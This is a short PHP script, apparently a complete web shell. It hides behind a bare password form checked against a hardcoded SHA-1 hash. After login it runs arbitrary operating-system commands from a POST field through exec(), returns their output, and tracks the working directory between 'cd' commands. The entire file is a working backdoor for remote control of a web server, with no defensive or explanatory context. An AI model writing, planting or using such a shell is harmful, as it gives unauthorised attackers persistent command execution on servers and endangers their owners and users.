<?php
session_start();
$hash = '7fb334d368ba4cf5bc6ae59f245a32788f66395a';
if (isset($_POST['pw']) && hash_equals($hash, sha1($_POST['pw']))) { $_SESSION['in'] = 1; }
if (empty($_SESSION['in'])) { die('<form method="post"><input type="password" name="pw"></form>'); }
$_SESSION['cwd'] = $_SESSION['cwd'] ?? getcwd();
if (isset($_POST['cmd'])) {
    $cmd = $_POST['cmd'];
    if (preg_match('/^cd\s+(.+)$/', $cmd, $m)) { chdir($_SESSION['cwd']); @chdir($m[1]); $_SESSION['cwd'] = getcwd(); }
    else { chdir($_SESSION['cwd']); $o = []; exec($cmd . ' 2>&1', $o, $rc); echo htmlspecialchars(implode("\n", $o)); }
}
